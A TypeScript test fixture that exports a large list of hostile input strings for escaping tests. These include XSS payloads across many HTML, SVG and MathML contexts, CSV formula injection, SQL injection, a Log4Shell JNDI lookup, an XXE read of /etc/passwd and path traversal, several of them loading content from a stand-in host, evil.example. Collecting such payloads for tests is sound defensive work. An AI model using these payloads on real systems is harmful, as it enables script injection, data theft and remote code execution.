/**
 * Texts that ran, became markup, or misled a reader somewhere once: each calls `hit()` where it runs. Compiled for these
 * tests, by the context that they break out of.
 */
const LINES = String.raw`
<script>hit()</script>
<ScRiPt>hit()</sCrIpT>
<script src=//evil.example/a.js></script>
<script>hit()//
<script/x>hit()</script >
<script type=module>hit()</script>
<script type="text/javascript" defer>hit()</script>
<scr<script>ipt>hit()</scr</script>ipt>
<script>/*</script><svg/onload='*/hit()'>
"><script>hit()</script>
'><script>hit()</script>
</title><script>hit()</script>
</textarea><script>hit()</script>
</style><script>hit()</script>
</noscript><script>hit()</script>
</option></select><script>hit()</script>
</template><script>hit()</script>
--><script>hit()</script>
]]><script>hit()</script>
</script><script>hit()</script>
<img src=x onerror=hit()>
<img src=x onerror="hit()">
<img src=x onerror='hit()'/>
<IMG SRC=x ONERROR=hit()>
<img/src/onerror=hit()>
<img src=x:x onerror=hit()//
<img src onerror=hit()>
<img srcset=x onerror=hit()>
<img src=data:, onload=hit()>
<img src="x" style="x:expression(hit())">
<image src=x onerror=hit()>
<picture><source srcset=x><img onerror=hit()></picture>
<img src=https://evil.example/pixel.png>
<img src="//evil.example/p?
<img lowsrc=javascript:hit()>
<img dynsrc=javascript:hit()>
<input autofocus onfocus=hit()>
<input type=image src=x onerror=hit()>
<select autofocus onfocus=hit()>
<textarea autofocus onfocus=hit()>
<button autofocus onfocus=hit()>x</button>
<keygen autofocus onfocus=hit()>
<body onload=hit()>
<body onpageshow=hit()>
<body background=javascript:hit()>
<body onhashchange=hit()><a href=#x>x</a>
<frameset onload=hit()>
<iframe src=javascript:hit()></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe onload=hit()></iframe>
<iframe src=//evil.example></iframe>
<object data=javascript:hit()></object>
<object data=//evil.example/a.swf></object>
<embed src=javascript:hit()>
<embed code=//evil.example/a.swf>
<applet code=A>
<video src=x onerror=hit()></video>
<video><source onerror=hit()></video>
<video poster=javascript:hit()//></video>
<audio src=x onerror=hit()></audio>
<audio src onloadstart=hit()>
<details open ontoggle=hit()>
<marquee onstart=hit()>x</marquee>
<marquee loop=1 width=0 onfinish=hit()>x</marquee>
<dialog open onclose=hit()></dialog>
<div onmouseover=hit() style=position:fixed;inset:0>x</div>
<div onpointerenter=hit()>x</div>
<div style=animation-name:x onanimationstart=hit()></div>
<div style="transition:color 1s" ontransitionend=hit()></div>
<div popover id=p onbeforetoggle=hit()></div><button popovertarget=p>x</button>
<div contenteditable onbeforeinput=hit()>x</div>
<xss id=x tabindex=1 onfocus=hit()></xss>
<x oncontentvisibilityautostatechange=hit() style=content-visibility:auto>
<a onclick=hit()>x</a>
<a href=javascript:hit()>x</a>
<a href="java&#10;script:hit()">x</a>
<a href="java&Tab;script:hit()">x</a>
<a href="&#106;avascript:hit()">x</a>
<a href="&#x6A&#x61&#x76&#x61script:hit()">x</a>
<a href=" javascript:hit()">x</a>
<a href=JaVaScRiPt:hit()>x</a>
<a href=data:text/html,<script>hit()</script>>x</a>
<a href=data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==>x</a>
<a href=vbscript:hit()>x</a>
<a href=//evil.example target=_blank>invoice</a>
<a ping=//evil.example/ping href=/>x</a>
<area href=javascript:hit()>
<map><area shape=default href=javascript:hit()></map>
<form action=javascript:hit()><button>x</button></form>
<form action=//evil.example><input name=password></form>
<form><button formaction=javascript:hit()>x</button></form>
<isindex action=javascript:hit() type=image>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=javascript:hit()">
<meta http-equiv=refresh content="0;url=//evil.example">
<meta http-equiv=Content-Security-Policy content="script-src *">
<link rel=stylesheet href=//evil.example/a.css>
<link rel=import href=//evil.example/a.html>
<link rel=preload as=script href=//evil.example/a.js>
<link rel=manifest href=//evil.example/m>
<style>@import '//evil.example/a.css';</style>
<style>body{background:url(//evil.example/b)}</style>
<style onload=hit()></style>
<style>*{x:expression(hit())}</style>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<p style="background:url(javascript:hit())">x</p>
<p style="behavior:url(#default#time2)" onbegin=hit()>
<table background=javascript:hit()></table>
<table><td background=javascript:hit()></table>
<bgsound src=javascript:hit()>
<layer src=//evil.example></layer>
<svg onload=hit()>
<svg/onload=hit()>
<svg><script>hit()</script></svg>
<svg><script href=data:,hit() />
<svg><script xlink:href=//evil.example/a.js></script></svg>
<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><animate xlink:href=#x attributeName=href values=javascript:hit() /><a id=x>x</a>
<svg><set onbegin=hit() attributeName=x>
<svg><use href="data:image/svg+xml,<svg id=x onload=hit()></svg>#x">
<svg><foreignObject><iframe srcdoc="<img src=x onerror=parent.hit()>"></foreignObject></svg>
<svg><image href=x onerror=hit() />
<svg><style><img src=x onerror=hit()></style></svg>
<svg><desc><img src=x onerror=hit()></desc></svg>
<svg><title><img src=x onerror=hit()></title></svg>
<svg><handler type=text/javascript ev:event=load>hit()</handler></svg>
<math href=javascript:hit()>x</math>
<math><a xlink:href=javascript:hit()>x</a></math>
<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">
<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>
<math><annotation-xml encoding=text/html><img src=x onerror=hit()></annotation-xml></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hit() src>">
<svg></p><style><a id="</style><img src=1 onerror=hit()>">
<noscript><p title="</noscript><img src=x onerror=hit()>">
<textarea><img title="</textarea><img src onerror=hit()>">
<xmp><p title="</xmp><img src=x onerror=hit()>">
<noembed><img title="</noembed><img src onerror=hit()>">
<iframe><img title="</iframe><img src onerror=hit()>">
<plaintext><img src onerror=hit()>
<template><img src=x onerror=hit()></template>
<template shadowrootmode=open><img src=x onerror=hit()></template>
<select><template><img src=x onerror=hit()></template></select>
<!--<img src="--><img src=x onerror=hit()//">
<![CDATA[<img src=x onerror=hit()>]]>
<?xml version="1.0"?><?xml-stylesheet href="javascript:hit()"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<!--[if gte IE 4]><script>hit()</script><![endif]-->
" onmouseover=hit() x="
' onfocus=hit() autofocus x='
" autofocus onfocus=hit() x
x onerror=hit()
javascript:hit()
javascript://%0ahit()
javascript:/*--></title></style></textarea></script><svg/onload='hit()'>//
jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(hit())//
data:text/html,<script>hit()</script>
blob:hit()
';hit();//
";hit();//
\";hit();//
\x3cscript\x3ehit()\x3c/script\x3e
\u003cscript\u003ehit()\u003c/script\u003e
%3Cscript%3Ehit()%3C/script%3E
%253Cscript%253Ehit()%253C/script%253E
&lt;script&gt;hit()&lt;/script&gt;
&#60;script&#62;hit()&#60;/script&#62;
&amp;lt;img src=x onerror=hit()&amp;gt;
+ADw-script+AD4-hit()+ADw-/script+AD4-
{{constructor.constructor('hit()')()}}
{{$on.constructor('hit()')()}}
{{7*7}}
#{7*7}
<%= hit() %>
[[\${hit()}]]
@(hit())
v-html="'<img src=x onerror=hit()>'"
<div ng-app ng-csp><input ng-focus=$event.view.hit() autofocus></div>
<div v-on:click=hit()>x</div>
<div x-data x-init=hit()></div>
<div hx-get=//evil.example hx-trigger=load></div>
<div data-bind="text:hit()"></div>
{"__proto__":{"innerHTML":"<img src=x onerror=hit()>"}}
{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hit()>"}}
{"$$typeof":"Symbol(react.element)","type":"img","props":{"onError":"hit()"}}
__proto__[innerHTML]=<img/src/onerror=hit()>
[x](javascript:hit())
![x](x"onerror="hit())
<javascript:hit()>
[x]: javascript:hit()
=HYPERLINK("https://evil.example","x")
=cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
=IMPORTXML("https://evil.example/","//a")
;=1+1
' or 1=1--
"; drop table enquiries; --
\${jndi:ldap://evil.example/a}
../../../../etc/passwd
`;

/** Signs that no keyboard types: the other way round, of no width, of another script, cut in half. */
const SIGNS = [
  '\u202e<img src=x onerror=hit()>\u202c',
  '\u2066</p>\u2069<script>hit()</script>',
  '\u200b=1+1',
  '\ufeff<script>hit()</script>',
  '\uff1cscript\uff1ehit()\uff1c/script\uff1e',
  '\u02bascript\u02bahit()',
  '<\u200bscript>hit()</script>',
  '<scr\u00adipt>hit()</script>',
  '\ud83d<img src=x onerror=hit()>',
  'java\u2028script:hit()',
  '\u0131mg <\u0131mg src=x onerror=hit()>',
  'p\u0430ypal.example/login',
  `${'\u0301'.repeat(40)}<svg onload=hit()>`,
  '\u{e0041}\u{e0042}<script>hit()</script>',
];

export const HOSTILE_TEXTS: readonly string[] = [...LINES.trim().split('\n'), ...SIGNS];
